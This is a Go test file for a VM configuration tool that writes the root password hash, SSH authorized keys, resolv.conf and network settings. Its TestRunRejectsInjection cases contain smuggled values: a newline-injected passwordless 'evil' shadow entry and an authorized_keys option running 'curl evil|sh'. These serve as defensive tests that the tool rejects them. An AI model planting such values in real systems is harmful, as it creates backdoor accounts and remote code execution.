package osc

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"fmt"
	"io/fs"
	"net/netip"
	"os"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/zap/zaptest"
	"golang.org/x/crypto/ssh"

	"github.com/luoyun/osmanager/pkg/identity"
	"github.com/luoyun/osmanager/pkg/lyconf"
	"github.com/luoyun/osmanager/pkg/netconf"
)

const shadowText = "root:*:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\nbob:$6$b$bob:19000:0:99999:7:::\n"

const hash = "$6$saltsalt$Cz4wU2Wq0bXZbG7bJjI8hV3oYkq3Q6P4rK8TdY4vS0S8k0WcUu2x5mZ1hC3qF9Jk6uVQy0cM3e2n1B7oPp2r1."

func pubKey(t *testing.T) string {
	t.Helper()
	pub, _, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	sp, _ := ssh.NewPublicKey(pub)
	return strings.TrimSpace(string(ssh.MarshalAuthorizedKey(sp))) + " root@builder"
}

func ptr(s string) *string { return &s }

// newRoot makes a temp root with etc/shadow (0640, group-owned by a
// non-root group when the test runs as root) and etc/resolv.conf.
func newRoot(t *testing.T) (root string, shadowGID int) {
	t.Helper()
	root = t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "etc"), 0o755); err != nil {
		t.Fatal(err)
	}
	sh := filepath.Join(root, "etc/shadow")
	if err := os.WriteFile(sh, []byte(shadowText), 0o640); err != nil {
		t.Fatal(err)
	}
	os.Chmod(sh, 0o640)
	shadowGID = -1
	if os.Geteuid() == 0 {
		shadowGID = 42
		if g, err := user.LookupGroup("shadow"); err == nil {
			shadowGID, _ = strconv.Atoi(g.Gid)
		}
		if err := os.Chown(sh, 0, shadowGID); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(root, "etc/resolv.conf"), []byte("nameserver 1.1.1.1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return root, shadowGID
}

type fileState struct {
	Sum   [32]byte
	Mode  fs.FileMode
	Ino   uint64
	Mtime int64
	UID   uint32
	GID   uint32
}

// tree records every file and directory under root, so that a test can
// tell whether anything at all was written, replaced or left behind.
func tree(t *testing.T, root string) map[string]fileState {
	t.Helper()
	m := map[string]fileState{}
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		st, err := os.Lstat(p)
		if err != nil {
			return err
		}
		sys := st.Sys().(*syscall.Stat_t)
		fsx := fileState{Mode: st.Mode(), Ino: sys.Ino, UID: sys.Uid, GID: sys.Gid}
		if !d.IsDir() {
			data, _ := os.ReadFile(p)
			fsx.Sum, fsx.Mtime = sha256.Sum256(data), st.ModTime().UnixNano()
		}
		rel, _ := filepath.Rel(root, p)
		m[rel] = fsx
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func statuses(steps []Step) map[string]Status {
	m := map[string]Status{}
	for _, s := range steps {
		m[s.Name] = s.Status
	}
	return m
}

func TestRunAppliesThenWritesNothing(t *testing.T) {
	root, gid := newRoot(t)
	key := pubKey(t)
	inst := &lyconf.Instance{PasswdHash: ptr(hash), PublicKey: ptr(key), Nameservers: ptr("8.8.8.8 114.114.114.114")}
	c := New(Config{Root: root, NoNetwork: true}, zaptest.NewLogger(t))
	steps := c.Run(context.Background(), inst)
	want := map[string]Status{"passwd_hash": Changed, "public_key": Changed, "nameservers": Changed, "network": Skipped}
	if got := statuses(steps); !cmp.Equal(got, want) {
		t.Fatalf("first run: %v, want %v", steps, want)
	}
	sh, _ := os.ReadFile(filepath.Join(root, "etc/shadow"))
	if want := strings.Replace(shadowText, "root:*:", "root:"+hash+":", 1); string(sh) != want {
		t.Errorf("shadow = %q, want %q", sh, want)
	}
	st, _ := os.Stat(filepath.Join(root, "etc/shadow"))
	if st.Mode().Perm() != 0o640 {
		t.Errorf("shadow mode %v, want 0640", st.Mode().Perm())
	}
	if gid >= 0 {
		if g := st.Sys().(*syscall.Stat_t).Gid; int(g) != gid {
			t.Errorf("shadow group %d, want %d", g, gid)
		}
	} else {
		t.Log("not root: shadow's group is not checked (chown needs root)")
	}
	if rc, _ := os.ReadFile(filepath.Join(root, "etc/resolv.conf")); string(rc) != "nameserver 8.8.8.8\nnameserver 114.114.114.114\n" {
		t.Errorf("resolv.conf = %q", rc)
	}
	if ak, _ := os.ReadFile(filepath.Join(root, "root/.ssh/authorized_keys")); string(ak) != key+"\n" {
		t.Errorf("authorized_keys = %q", ak)
	}

	before := tree(t, root)
	steps = c.Run(context.Background(), inst)
	want = map[string]Status{"passwd_hash": Unchanged, "public_key": Unchanged, "nameservers": Unchanged, "network": Skipped}
	if got := statuses(steps); !cmp.Equal(got, want) {
		t.Errorf("second run: %v, want %v", steps, want)
	}
	if diff := cmp.Diff(before, tree(t, root)); diff != "" {
		t.Errorf("second run wrote something (-before +after):\n%s", diff)
	}
}

func TestRunRejectsInjection(t *testing.T) {
	key := pubKey(t)
	good := func() *lyconf.Instance {
		return &lyconf.Instance{PasswdHash: ptr(hash), PublicKey: ptr(key), Nameservers: ptr("8.8.8.8")}
	}
	for _, tc := range []struct {
		name   string
		mutate func(*lyconf.Instance)
		file   string // the file that must stay as it was
		detail string
	}{
		{"passwd_hash", func(i *lyconf.Instance) { i.PasswdHash = ptr("$6$x\nevil::0:0:99999:7:::") }, "etc/shadow", "control character"},
		{"passwd_hash", func(i *lyconf.Instance) { i.PasswdHash = ptr("$6$x$y:0:0:99999") }, "etc/shadow", "':'"},
		{"public_key", func(i *lyconf.Instance) {
			i.PublicKey = ptr(key + "\rcommand=\"curl evil|sh\",no-pty " + key)
		}, "root/.ssh", "no valid key: line 1: control character"},
		{"public_key", func(i *lyconf.Instance) { i.PublicKey = ptr("evil line\n\x00" + key) }, "root/.ssh", "line 1: not an ssh public key; line 2: control character"},
		{"nameservers", func(i *lyconf.Instance) { i.Nameservers = ptr("8.8.8.8\noptions ndots:15 timeout:0") }, "etc/resolv.conf", `"options"`},
	} {
		t.Run(tc.name+"/"+tc.detail, func(t *testing.T) {
			root, _ := newRoot(t)
			before := tree(t, root)
			inst := good()
			tc.mutate(inst)
			steps := New(Config{Root: root, NoNetwork: true}, zaptest.NewLogger(t)).Run(context.Background(), inst)
			if !AnyFailed(steps) {
				t.Fatalf("no step failed: %v", steps)
			}
			for _, s := range steps {
				switch {
				case s.Name == tc.name:
					line := s.String()
					if s.Status != Failed || !strings.HasPrefix(line, tc.name+": error: ") || !strings.Contains(line, tc.detail) {
						t.Errorf("step line %q, want %q error mentioning %q", line, tc.name, tc.detail)
					}
				case s.Name == "network":
				default:
					if s.Status != Changed {
						t.Errorf("other step %v, want it applied", s)
					}
				}
			}
			after := tree(t, root)
			for p, st := range before {
				if strings.HasPrefix(p, tc.file) && after[p] != st {
					t.Errorf("%s changed", p)
				}
			}
			for p := range after {
				if strings.HasPrefix(p, tc.file) && before[p] == (fileState{}) {
					t.Errorf("%s created", p)
				}
			}
			if tc.name == "passwd_hash" {
				sh, _ := os.ReadFile(filepath.Join(root, "etc/shadow"))
				if strings.Contains(string(sh), "evil") || string(sh) != shadowText {
					t.Errorf("shadow = %q", sh)
				}
			}
		})
	}
}

// fakeNet records the changes instead of making them.
type fakeNet struct {
	snap  netconf.Snapshot
	calls []string
}

func (f *fakeNet) Snapshot() (netconf.Snapshot, error) { return f.snap, nil }
func (f *fakeNet) AddAddr(l netconf.Link, a netip.Prefix) error {
	f.calls = append(f.calls, fmt.Sprintf("addr %s %s", l.Name, a))
	return nil
}
func (f *fakeNet) SetUp(l netconf.Link) error {
	f.calls = append(f.calls, "up "+l.Name)
	return nil
}
func (f *fakeNet) DelAddr(l netconf.Link, a netip.Prefix) error {
	f.calls = append(f.calls, fmt.Sprintf("del %s %s", l.Name, a))
	return nil
}
func (f *fakeNet) StopClient(c netconf.Client) error {
	f.calls = append(f.calls, fmt.Sprintf("stop %d", c.PID))
	return nil
}
func (f *fakeNet) SetDefault(l netconf.Link, gw netip.Addr) error {
	f.calls = append(f.calls, fmt.Sprintf("default %s %s", l.Name, gw))
	return nil
}

func TestDryRunChangesNothing(t *testing.T) {
	root, _ := newRoot(t)
	net := &fakeNet{snap: netconf.Snapshot{Links: []netconf.Link{{Index: 2, Name: "ens3"}}}}
	inst := &lyconf.Instance{
		PasswdHash: ptr(hash), PublicKey: ptr(pubKey(t)), Nameservers: ptr("8.8.8.8"),
		Network: []lyconf.NIC{{IP: "10.0.2.15", Netmask: "255.255.255.0", Gateway: "10.0.2.2"}},
	}
	before := tree(t, root)
	steps := New(Config{Root: root, DryRun: true, Net: net}, zaptest.NewLogger(t)).Run(context.Background(), inst)
	want := map[string]Status{"passwd_hash": Changed, "public_key": Changed, "nameservers": Changed, "nic0": Changed}
	if got := statuses(steps); !cmp.Equal(got, want) {
		t.Errorf("dry run: %v, want %v", steps, want)
	}
	for _, s := range steps {
		if !strings.Contains(s.String(), "dry run: would ") {
			t.Errorf("dry-run line %q does not say what it would do", s)
		}
	}
	if diff := cmp.Diff(before, tree(t, root)); diff != "" {
		t.Errorf("dry run wrote something:\n%s", diff)
	}
	if len(net.calls) != 0 {
		t.Errorf("dry run changed the network: %q", net.calls)
	}
}

func TestNetworkSteps(t *testing.T) {
	net := &fakeNet{snap: netconf.Snapshot{Links: []netconf.Link{
		{Index: 1, Name: "lo", Loopback: true},
		{Index: 2, Name: "ens3"},
		{Index: 3, Name: "ens4", Up: true},
	}}}
	inst := &lyconf.Instance{Network: []lyconf.NIC{
		{IP: "10.0.2.15", Netmask: "255.255.255.0", Gateway: "10.0.2.2"},
		{MAC: "52:54:00:12:34:57", Type: "default"},
	}}
	steps := New(Config{Root: t.TempDir(), Net: net}, zaptest.NewLogger(t)).Run(context.Background(), inst)
	got := []string{steps[3].String(), steps[4].String()}
	want := []string{
		"nic0: changed (add 10.0.2.15/24 to ens3, bring ens3 up, default route via 10.0.2.2 dev ens3; ens3 by position)",
		"nic1: skipped: no ip: left to the distribution",
	}
	if !cmp.Equal(got, want) {
		t.Errorf("network lines:\n%q\nwant\n%q", got, want)
	}
	if w := []string{"addr ens3 10.0.2.15/24", "up ens3", "default ens3 10.0.2.2"}; !cmp.Equal(net.calls, w) {
		t.Errorf("calls %q, want %q", net.calls, w)
	}
	// No netlink: the network step fails, the others still apply.
	root, _ := newRoot(t)
	steps = New(Config{Root: root, Net: netconf.Unavailable{Err: fmt.Errorf("netlink: permission denied")}}, zaptest.NewLogger(t)).
		Run(context.Background(), &lyconf.Instance{Nameservers: ptr("8.8.8.8"), Network: inst.Network})
	if got := statuses(steps); got["nameservers"] != Changed || got["network"] != Failed || !strings.Contains(steps[3].Detail, "permission denied") {
		t.Errorf("without netlink: %v", steps)
	}
	// No network at all: say so, touch nothing.
	steps = New(Config{Root: t.TempDir()}, zaptest.NewLogger(t)).Run(context.Background(), &lyconf.Instance{})
	if s := steps[len(steps)-1]; s.Name != "network" || s.Status != Skipped || !strings.Contains(s.Detail, "no network") {
		t.Errorf("no network: %v", s)
	}
}

func TestMissingSettingsUntouched(t *testing.T) {
	root, _ := newRoot(t)
	before := tree(t, root)
	steps := New(Config{Root: root, NoNetwork: true}, zaptest.NewLogger(t)).Run(context.Background(),
		&lyconf.Instance{PasswdHash: ptr(""), Nameservers: ptr("  ")})
	for _, s := range steps {
		if s.Status != Skipped {
			t.Errorf("%v, want skipped", s)
		}
	}
	if diff := cmp.Diff(before, tree(t, root)); diff != "" {
		t.Errorf("wrote something:\n%s", diff)
	}
}

// TestPublicKeyFreeText: the owner's text in the authorized_keys format
// (comments, options, several keys) is written; a line that is not a key
// is refused by number, never quoted, and the step fails while the valid
// keys are in place.
func TestPublicKeyFreeText(t *testing.T) {
	k1, k2 := pubKey(t), pubKey(t)
	const secret = "correct horse battery staple"
	text := "# owner's keys\r\n" + `from="10.0.0.0/8" ` + k1 + "\r\n\r\n" + secret + "\r\n" + `command="/usr/bin/backup",no-pty ` + k2 + "\r\n"
	want := "# owner's keys\n" + `from="10.0.0.0/8" ` + k1 + "\n" + `command="/usr/bin/backup",no-pty ` + k2 + "\n"
	root, _ := newRoot(t)
	for i, wantLine := range []string{
		"public_key: error: refused line 4: not an ssh public key; the 2 valid key(s) were written",
		"public_key: error: refused line 4: not an ssh public key; the 2 valid key(s) are in place",
	} {
		steps := New(Config{Root: root, NoNetwork: true}, zaptest.NewLogger(t)).Run(context.Background(), &lyconf.Instance{PublicKey: ptr(text)})
		if got := steps[1].String(); got != wantLine {
			t.Errorf("run %d: %q, want %q", i+1, got, wantLine)
		}
		if b, err := os.ReadFile(filepath.Join(root, "root/.ssh/authorized_keys")); err != nil || string(b) != want {
			t.Errorf("run %d: authorized_keys = %q, %v; want %q", i+1, b, err, want)
		}
	}
	// Only good lines: the step is a plain change.
	steps := New(Config{Root: root, NoNetwork: true}, zaptest.NewLogger(t)).Run(context.Background(), &lyconf.Instance{PublicKey: ptr(k2 + "\n# second\n" + k1)})
	if got := steps[1].String(); got != "public_key: changed" {
		t.Errorf("good text: %q", got)
	}
}

// TestIdentityHook: with an identity configured, its three steps come
// after nameservers and before the network, and osc's dry run reaches
// them.
func TestIdentityHook(t *testing.T) {
	root, _ := newRoot(t)
	os.WriteFile(filepath.Join(root, "etc/machine-id"), []byte("0123456789abcdef0123456789abcdef\n"), 0o444)
	before := tree(t, root)
	none := ""
	id := &identity.Config{Enabled: true, Items: identity.Items{HostKeys: true, MachineID: true, Hostname: true},
		Tag: 42, HasTag: true, Previous: &none, Record: filepath.Join(t.TempDir(), "identity.json"), DomainName: "vm.example.org"}
	steps := New(Config{Root: root, DryRun: true, NoNetwork: true, Identity: id}, zaptest.NewLogger(t)).Run(context.Background(), &lyconf.Instance{})
	var got []string
	for _, s := range steps {
		got = append(got, s.Name+" "+string(s.Status))
	}
	want := []string{"passwd_hash skipped", "public_key skipped", "nameservers skipped", "hostname changed", "machine_id changed", "host_keys skipped", "network skipped"}
	if !cmp.Equal(got, want) {
		t.Errorf("steps %q, want %q", got, want)
	}
	if diff := cmp.Diff(before, tree(t, root)); diff != "" {
		t.Errorf("dry run wrote something:\n%s", diff)
	}
}
